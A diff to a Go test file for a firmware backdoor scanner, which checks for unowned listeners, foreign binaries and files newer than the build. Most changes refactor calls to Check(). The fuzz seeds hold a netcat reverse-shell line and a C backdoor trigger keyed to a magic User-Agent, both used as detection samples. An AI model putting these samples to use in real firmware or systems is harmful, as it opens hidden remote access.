@@ -5,6 +5,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -16,13 +17,13 @@ import (
 	"github.com/wardein/wardein/report"
 )
 
-func TestGolden(t *testing.T) { checktest.Golden(t, Check, service.Check) }
+func TestGolden(t *testing.T) { checktest.Golden(t, Check(), service.Check) }
 
 func Fuzz(f *testing.F) {
 	if gcc, err := exec.LookPath("gcc"); err == nil {
 		f.Add(built(f, gcc, `if (strstr(b, "User-Agent: extel-care HELODBG")) system("/etc/init.d/console start");`, `"http://192.175.48.5/"`))
 	}
-	checktest.Fuzz(f, Check, []byte("#!/bin/sh\nnc 203.0.113.7 1 -e sh\n"), []byte("C:Q1aaaaaaaaaaaaaaaaaaaaaaaa\nF:usr/sbin\nR:a\n"), []byte("/a\n/usr/sbin/b\n"), []byte("20250501120000\n"), []byte("ro.build.date.utc=1746057600\n"))
+	checktest.Fuzz(f, Check(), []byte("#!/bin/sh\nnc 203.0.113.7 1 -e sh\n"), []byte("C:Q1aaaaaaaaaaaaaaaaaaaaaaaa\nF:usr/sbin\nR:a\n"), []byte("/a\n/usr/sbin/b\n"), []byte("20250501120000\n"), []byte("ro.build.date.utc=1746057600\n"))
 }
 
 // Every case has what a reader needs to judge it, and 40 or more were
@@ -70,7 +71,7 @@ func TestLiterals(t *testing.T) {
 		for kind, form := range forms {
 			for _, text := range []string{l, "x" + l + "_"} {
 				data := []byte(strings.Replace(form, "%", text, 1))
-				facts, err := checktest.Node(t, Check, data)
+				facts, err := checktest.Node(t, Check(), data)
 				if err != nil {
 					t.Fatal(err)
 				}
@@ -109,12 +110,12 @@ func TestAddresses(t *testing.T) {
 			t.Errorf("%q: %v %v, want %q", s, got, ok, want)
 		}
 	}
-	for _, p := range append(table().local, table().example...) {
+	for _, p := range slices.Concat(ranges().Local, ranges().Example) {
 		if p.Is == "" || p.Source == "" || !p.Prefix.IsValid() {
 			t.Errorf("%v", p)
 		}
 	}
-	for a, s := range table().services {
+	for a, s := range services() {
 		if s.Is == "" || s.Source == "" || !remote(a) || !a.IsValid() || a == (netip.Addr{}) {
 			t.Errorf("%v: %v", a, s)
 		}
@@ -163,7 +164,7 @@ func built(t testing.TB, gcc, trigger, address string) []byte {
 func judged(t *testing.T, tree *checktest.Tree) map[string]wardein.Finding {
 	t.Helper()
 	by := map[string]wardein.Finding{}
-	for _, f := range tree.Judge(t, Check, service.Check) {
+	for _, f := range tree.Judge(t, Check(), service.Check) {
 		by[f.Rule] = f
 	}
 	return by
@@ -202,7 +203,7 @@ func TestPrograms(t *testing.T) {
 				return
 			}
 			f, ok := by[c.rule]
-			if says := report.Render(f.Says, Check.Messages); !ok || !strings.Contains(says, c.says) || f.Severity != c.grade || f.Confidence != c.sure {
+			if says := report.Render(f.Says, check.Messages); !ok || !strings.Contains(says, c.says) || f.Severity != c.grade || f.Confidence != c.sure {
 				t.Errorf("%v %v %q", f.Severity, f.Confidence, says)
 			}
 		})
@@ -231,7 +232,7 @@ func TestUnowned(t *testing.T) {
 			tree.Add("fw/"+p, 0o644, []byte(s))
 		}
 		f, ok := judged(t, tree)["hiddenaccess.unowned-listener"]
-		if says := report.Render(f.Says, Check.Messages); ok != (name != "few") || ok && !strings.Contains(says, "Programs (1) that are started at boot and wait for callers are in no list of files of "+name+": usr/sbin/own (") {
+		if says := report.Render(f.Says, check.Messages); ok != (name != "few") || ok && !strings.Contains(says, "Programs (1) that are started at boot and wait for callers are in no list of files of "+name+": usr/sbin/own (") {
 			t.Errorf("%s: %q", name, says)
 		}
 	}
@@ -258,7 +259,7 @@ func TestForeign(t *testing.T) {
 	}
 	tree.Add("fw/usr/bin/stray", 0o755, elf(x86))
 	f := judged(t, tree)["hiddenaccess.foreign-architecture"]
-	if says := report.Render(f.Says, Check.Messages); says != "Of 13 ELF files of one root file system, 1 are for another processor (x86-64; the others: arm): usr/bin/stray." {
+	if says := report.Render(f.Says, check.Messages); says != "Of 13 ELF files of one root file system, 1 are for another processor (x86-64; the others: arm): usr/bin/stray." {
 		t.Error(says)
 	}
 }
@@ -280,7 +281,7 @@ func TestNewer(t *testing.T) {
 		tree.Add("fw/bin/late", 0o755, []byte("x"))
 		tree.Lookup("fw/bin/late").MTime = build + 30*24*3600
 		f := judged(t, tree)["hiddenaccess.newer-than-build"]
-		if says := report.Render(f.Says, Check.Messages); !strings.HasPrefix(says, "Files (1) are younger than the build that") || !strings.HasSuffix(says, ": bin/late.") {
+		if says := report.Render(f.Says, check.Messages); !strings.HasPrefix(says, "Files (1) are younger than the build that") || !strings.HasSuffix(says, ": bin/late.") {
 			t.Errorf("%s: %q", stamp, says)
 		}
 		for _, name := range strings.Fields("a b c") {
@@ -293,7 +294,7 @@ func TestNewer(t *testing.T) {
 }
 
 func BenchmarkScript(b *testing.B) {
-	checktest.Benchmark(b, Check, []byte("#!/bin/sh\n"+strings.Repeat("if [ -x \"$PROG\" ]; then start-stop-daemon -S -x $PROG -- -p 1.2; fi | cat /dev/null\n", 1000)))
+	checktest.Benchmark(b, Check(), []byte("#!/bin/sh\n"+strings.Repeat("if [ -x \"$PROG\" ]; then start-stop-daemon -S -x $PROG -- -p 1.2; fi | cat /dev/null\n", 1000)))
 }
 
 func BenchmarkProgram(b *testing.B) {
@@ -301,9 +302,9 @@ func BenchmarkProgram(b *testing.B) {
 	if err != nil {
 		b.Skip(err)
 	}
-	checktest.Benchmark(b, Check, data)
+	checktest.Benchmark(b, Check(), data)
 }
 
 func BenchmarkOtherText(b *testing.B) {
-	checktest.Benchmark(b, Check, []byte(strings.Repeat("a line of documentation: nothing\n", 8000)))
+	checktest.Benchmark(b, Check(), []byte(strings.Repeat("a line of documentation: nothing\n", 8000)))
 }
